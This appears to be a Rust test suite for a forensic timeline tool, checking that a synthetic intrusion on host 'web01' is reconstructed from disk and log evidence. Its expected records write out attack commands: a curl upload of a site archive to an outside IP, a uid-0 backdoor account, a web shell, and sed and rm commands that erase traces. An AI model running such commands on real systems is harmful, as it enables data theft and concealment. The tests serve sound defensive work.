//! The timeline of web01 tells what was written into its files: `EXPECTED.md` comes from the story, not from them.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::OnceLock;

use serde_json::Value;

use crate::exhibit::Desk;
use crate::web01::{Web01, deletions, records_written};

const COLUMNS: &str = "ts,ts_ns,ts_desc,tz_basis,year_basis,host,source,action,outcome,user_name,src_ip,path,\
     message,exhibit,locator,byte_offset,flags";

/// The disk is E001, the folder of logs E002.
struct Told {
    reports: Vec<Value>,
    rows: Vec<Value>,
}

/// Acquires both and builds their timeline, once for all tests.
fn told() -> &'static Told {
    static TOLD: OnceLock<Told> = OnceLock::new();
    TOLD.get_or_init(|| {
        let desk = Desk::new();
        let web01 = Web01::unpack(&desk.path("web01"));
        desk.ok(&["init", "case", "--name", "web01", "--examiner", "J. Doe"]);
        desk.ok(&["acquire", "disk", web01.disk.to_str().unwrap(), "--case", "case"]);
        desk.ok(&["acquire", "logs", web01.logs.to_str().unwrap(), "--case", "case"]);
        let reports = desk.ok(&["timeline", "case", "--json"]).stdout;
        let rows = desk.ok(&["query", "case", "--columns", COLUMNS, "--format", "jsonl"]).stdout;
        Told {
            reports: serde_json::from_str(&reports).unwrap(),
            rows: rows.lines().map(|line| serde_json::from_str(line).unwrap()).collect(),
        }
    })
}

impl Told {
    fn rows(&self, exhibit: &str) -> impl Iterator<Item = &Value> {
        self.rows.iter().filter(move |row| row["exhibit"] == exhibit)
    }
}

fn text<'a>(row: &'a Value, column: &str) -> &'a str {
    row[column].as_str().unwrap_or_default()
}

/// The path on the host of the file that a locator names, without its codec.
fn path_of(locator: &str) -> Option<&str> {
    let path = locator.split_once(':')?.1;
    let path = path.rsplit_once('>').map_or(path, |(path, _)| path);
    Some(path.split_once("/web01/web01").map_or(path, |(_, path)| path))
}

/// Records by path of every claimed file.
fn records_read(report: &Value) -> BTreeMap<&str, &Value> {
    let files = report["files"].as_array().unwrap();
    files.iter().filter_map(|file| Some((path_of(file["locator"].as_str().unwrap())?, file))).collect()
}

#[test]
fn every_file_of_web01_gives_the_records_that_were_written_into_it() {
    let written = records_written();
    let deleted = deletions();
    assert!(written.len() >= 40 && deleted.len() == 4, "EXPECTED.md was not understood");
    for (report, folders) in told().reports.iter().zip([&["/"][..], &["/etc/", "/var/log/"]]) {
        let read = records_read(report);
        let mut wrong = Vec::new();
        for (path, records) in &written {
            if !folders.iter().any(|folder| path.starts_with(folder)) {
                continue;
            }
            let Some(file) = read.get(path.as_str()) else {
                wrong.push(format!("{path} is not read"));
                continue;
            };
            let left = file["bytes"].as_u64().unwrap() - file["bytes_used"].as_u64().unwrap();
            let found = (file["records"].as_u64().unwrap(), file["failed"].as_u64().unwrap(), left);
            if found != (*records, 0, 0) {
                wrong
                    .push(format!("{path}: (records, failed, bytes left over) are {found:?}, not {records}"));
            }
        }
        // A deleted file is `$deleted/INODE/path`: a live one may have its name.
        let was_deleted = |path: &str| {
            path.strip_prefix("$deleted/")
                .and_then(|rest| rest.find('/').and_then(|at| rest.get(at..)))
                .is_some_and(|path| deleted.contains_key(path))
        };
        let invented = read.keys().filter(|path| !written.contains_key(**path) && !was_deleted(path));
        wrong.extend(invented.map(|path| format!("{path} is read, and is no log")));
        assert!(wrong.is_empty(), "{}: {wrong:#?}", report["exhibit"]);
        assert_eq!(report["issues"].as_array().unwrap().len(), 0, "{}", report["issues"]);
    }
}

#[test]
fn the_disk_and_the_logs_taken_from_it_tell_the_same() {
    let of = |exhibit| {
        let logs = told().rows(exhibit).filter_map(|row| {
            let path = path_of(text(row, "locator")).filter(|path| path.starts_with("/var/log/"))?;
            let offset = row["byte_offset"].as_u64();
            let columns = ["ts", "ts_desc", "tz_basis", "year_basis", "host", "user_name", "message"];
            Some((path, offset, columns.map(|column| text(row, column))))
        });
        logs.collect::<BTreeSet<_>>()
    };
    let (disk, logs) = (of("E001"), of("E002"));
    assert!(disk.len() > 8_000);
    assert_eq!(disk.symmetric_difference(&logs).next(), None);
}

#[test]
fn the_ten_steps_of_the_story_are_found_at_their_times() {
    /// Time, source, and words of the message.
    const STEPS: [(&str, &str, &str); 21] = [
        // 1. A working day. The upgrade is at 9:44 in Berlin.
        ("2026-11-02T07:44:45", "linux:syslog", "Accepted publickey for jane from 192.0.2.15"),
        ("2026-11-02T08:44:31", "linux:apt", "apt upgrade"),
        // 2. Passwords are tried.
        ("2026-11-02T22:41:03", "linux:syslog", "rhost=203.0.113.66"),
        ("2026-11-02T22:41:04", "linux:utmp", "failed login of root on ssh:notty from 203.0.113.66"),
        // 3. One is right.
        ("2026-11-02T23:24:41", "linux:syslog", "Accepted password for deploy from 203.0.113.66 port 51422"),
        ("2026-11-02T23:24:41", "linux:journal", "Accepted password for deploy from 203.0.113.66 port 51422"),
        ("2026-11-02T23:24:41", "linux:utmp", "login of deploy on pts/3 from 203.0.113.66"),
        // 4. A root shell.
        ("2026-11-02T23:27:10", "linux:syslog", "USER=root ; COMMAND=/bin/bash"),
        ("2026-11-02T23:27:10", "linux:auditd", "EXECVE: sudo /bin/bash"),
        // 5. A job, first run at 23:40:01.
        ("2026-11-02T23:31:55", "linux:auditd", "EXECVE: tee /etc/cron.d/php-session-gc"),
        ("2026-11-02T23:40:01", "linux:syslog", "CMD (/usr/local/lib/.sysupd/beat.sh"),
        // 6. An account with uid 0.
        ("2026-11-02T23:36:12", "linux:syslog", "new user: name=sysupd, UID=0"),
        // 7. A web shell.
        ("2026-11-03T00:02:40", "linux:auditd", "chown www-data:www-data /var/www/html/uploads/img_4471.php"),
        ("2026-11-03T00:09:17", "web:access", "POST /uploads/img_4471.php"),
        // 8. Data is packed and sent.
        ("2026-11-03T20:38:20", "linux:syslog", "Accepted password for sysupd from 198.51.100.23"),
        ("2026-11-03T20:44:05", "linux:auditd", "EXECVE: tar -czf /var/tmp/.s/site.tar.gz"),
        (
            "2026-11-03T20:52:18",
            "linux:auditd",
            "EXECVE: curl -sT /var/tmp/.s/site.tar.gz https://198.51.100.99/in/",
        ),
        // 9. Traces are attacked.
        ("2026-11-03T21:03:44", "linux:auditd", "EXECVE: sed -i /203.0.113.66/d /var/log/auth.log"),
        ("2026-11-03T21:04:45", "linux:auditd", "EXECVE: rm -f /var/lib/sysupd/.bash_history"),
        // 10. It is noticed.
        ("2026-11-04T07:31:26", "linux:syslog", "Accepted publickey for jane from 192.0.2.15"),
        ("2026-11-04T08:21:37", "linux:utmp", "shutdown"),
    ];
    for exhibit in ["E001", "E002"] {
        for (when, source, words) in STEPS {
            let is_step = |row: &&Value| {
                text(row, "ts").starts_with(when)
                    && text(row, "source") == source
                    && text(row, "message").contains(words)
            };
            assert!(told().rows(exhibit).any(|row| is_step(&row)), "{exhibit}: {when} {source} {words}");
        }
    }
    let at = |row: &Value| text(row, "ts").get(..19).map(|ts| ts.replace('T', " "));
    let removed = told().rows("E001").filter(|row| text(row, "ts_desc") == "Content Deletion Time");
    let removed: BTreeMap<_, _> =
        removed.map(|row| (text(row, "path").to_owned(), at(row).unwrap())).collect();
    assert_eq!(removed, deletions());
}

#[test]
fn the_guessing_of_passwords_is_counted_once_in_each_log() {
    let tries = |log: &str| {
        let rows = told().rows("E001").filter(|row| text(row, "locator").ends_with(log));
        rows.filter(|row| text(row, "src_ip") == "203.0.113.66" && text(row, "outcome") == "failure")
            .filter(|row| ["ssh-login", "failed-login"].contains(&text(row, "action")))
            .count()
    };
    let counts = ["/var/log/auth.log", "/var/log/secure", "system.journal", "/var/log/btmp"].map(tries);
    assert!(counts[0] > 100 && counts.iter().all(|count| *count == counts[0]), "{counts:?}");
}

#[test]
fn lines_without_a_year_get_the_right_one_and_say_how_it_is_known() {
    for exhibit in ["E001", "E002"] {
        let mut years: BTreeMap<(&str, &str, &str), u64> = BTreeMap::new();
        for row in told().rows(exhibit) {
            let (ts, basis) = (text(row, "ts"), text(row, "year_basis"));
            let path = path_of(text(row, "locator")).unwrap_or_default();
            if let Some(name) = path.strip_prefix("/var/log/secure") {
                *years.entry((name, ts.get(..4).unwrap_or_default(), basis)).or_default() += 1;
            } else {
                assert_eq!(basis, if ts.is_empty() { "" } else { "in_record" }, "{row}");
            }
        }
        // Other logs tell of November 2026 and of December 2025, so a file that ends in November leaves it to its
        // own time; files that end in October and March have neighbours in 2026 only. secure.2.xz begins on
        // 20 December 2025.
        let expected = [
            (("", "2026", "file_time"), 901),
            ((".1", "2026", "neighbour"), 710),
            ((".2.xz", "2025", "neighbour"), 15),
            ((".2.xz", "2026", "neighbour"), 105),
        ];
        assert_eq!(years, BTreeMap::from(expected), "{exhibit}");
    }
}

#[test]
fn local_times_are_read_in_berlin_with_its_summer_time() {
    /// Log, words of the message, and the time in UTC: `Mar 21 23:05:56` is winter, `Jun …` summer.
    const LOCAL: [(&str, &str, &str); 5] = [
        ("/var/log/secure", "Accepted password for deploy from 203.0.113.66", "2026-11-02T23:24:41Z"),
        ("/var/log/secure.1", "sshd[1995089]: Accepted publickey for chloe", "2026-03-21T22:05:56Z"),
        ("/var/log/secure.1", "New session 4212 of user anna", "2026-10-25T00:31:07Z"),
        ("/var/log/secure.2.xz", "sshd[16877]: Accepted publickey for anna", "2025-12-20T08:05:11Z"),
        ("/var/log/secure.2.xz", "sshd[1950998]: Received disconnect", "2026-03-19T21:24:49Z"),
    ];
    for exhibit in ["E001", "E002"] {
        for (log, words, ts) in LOCAL {
            let row = told().rows(exhibit).find(|row| {
                path_of(text(row, "locator")) == Some(log) && text(row, "message").contains(words)
            });
            let row = row.unwrap_or_else(|| panic!("{exhibit}: {log} does not say {words:?}"));
            assert_eq!((text(row, "ts"), text(row, "tz_basis")), (ts, "host_config"), "{row}");
        }
    }
    // auth.log writes the offset into each line, and secure tells of the same logins: so they must agree.
    let logins = |log: &str| {
        let rows = told().rows("E001").filter(|row| path_of(text(row, "locator")) == Some(log));
        let logins = rows.filter(|row| text(row, "action") == "ssh-login");
        logins.filter_map(|row| text(row, "ts").get(..19)).collect::<BTreeSet<_>>()
    };
    let (with_offset, without) = (logins("/var/log/auth.log"), logins("/var/log/secure"));
    assert!(with_offset.len() > 100);
    assert_eq!(with_offset.difference(&without).next(), None);
}
